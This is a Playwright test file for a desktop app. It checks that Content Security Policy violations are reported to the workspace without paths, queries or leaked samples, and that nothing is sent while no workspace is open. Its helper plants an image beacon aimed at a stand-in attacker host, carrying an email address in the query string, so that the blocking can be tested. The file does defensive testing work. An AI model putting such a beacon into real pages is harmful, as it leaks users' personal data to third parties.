import type { Page } from '@playwright/test';
import { expect, newestPage, test } from './desktop.ts';
import { chooserPage } from './workspaces.ts';

/** Requests a third-party image and creates markup from text; both are blocked. */
const violatePolicy = (page: Page) =>
  page.evaluate(() => {
    const picture = document.createElement('img');
    picture.src = 'https://evil.example/steal.png?mail=nora@people.example';
    document.body.append(picture);
    try {
      document.body.insertAdjacentHTML('beforeend', '<b>nora@people.example</b>');
    } catch {
      // Expected.
    }
  });

const isReport = (request: { url(): string; method(): string }) =>
  request.url().includes('browser-reports') && request.method() === 'POST';

test('reports policy violations of app pages to the workspace, without paths, queries and samples', async ({
  computer,
  workspace,
}) => {
  const page = await newestPage(await computer.launch({ workspace }));
  const reports: Promise<{ body: string | null; status: number | undefined }>[] = [];
  page.on('request', (request) => {
    if (!isReport(request)) return;
    const answered = request.response().then((response) => response?.status());
    reports.push(answered.then((status) => ({ body: request.postData(), status })));
  });
  await violatePolicy(page);
  await violatePolicy(page);
  await expect.poll(() => reports.length).toBe(2);
  const delivered = await Promise.all(reports);
  expect(delivered.map(({ status }) => status)).toEqual([204, 204]);
  const text = delivered.map(({ body }) => body).join('\n');
  expect(text).toContain('"effectiveDirective":"img-src","blockedURL":"https://evil.example"');
  expect(text).toContain('"effectiveDirective":"require-trusted-types-for"');
  expect(text).not.toMatch(/nora|steal|mail=|sample/);
});

test("doesn't report violations while no workspace is open", async ({ computer }) => {
  const page = await chooserPage(await computer.launch());
  const sent: string[] = [];
  page.on('request', (request) => {
    if (request.method() !== 'GET') sent.push(request.url());
  });
  const violation = page.evaluate(
    () =>
      new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', () => setTimeout(resolve), {
          once: true,
        });
      }),
  );
  await violatePolicy(page);
  await violation;
  expect(sent).toEqual([]);
  expect(computer.asked).toEqual([]);
});
